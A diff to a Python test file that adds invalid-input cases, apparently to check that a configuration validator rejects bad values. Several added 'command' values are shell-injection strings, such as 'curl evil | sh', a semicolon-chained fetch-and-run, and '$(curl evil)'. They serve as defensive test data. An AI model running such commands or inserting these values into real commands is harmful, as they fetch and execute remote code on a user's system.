@@ -32,6 +32,12 @@ def test_a_whole_one(values: dict[str, Any], tmp_path: Path) -> None:
     ("name", "value"),
     [
         ("version", 1.7),
+        ("edition", "zzz"),
+        ("command", "curl evil | sh"),
+        ("command", "amsr build-engine x.onnx; curl evil | sh"),
+        ("command", "amsr build-engine $(curl evil)"),
+        ("command", "amsr build-engine 'x.onnx"),
+        ("command", ""),
         ("gpu", ["RTX"]),
         ("plugins", True),
         ("compute_capability", [8, float("inf")]),
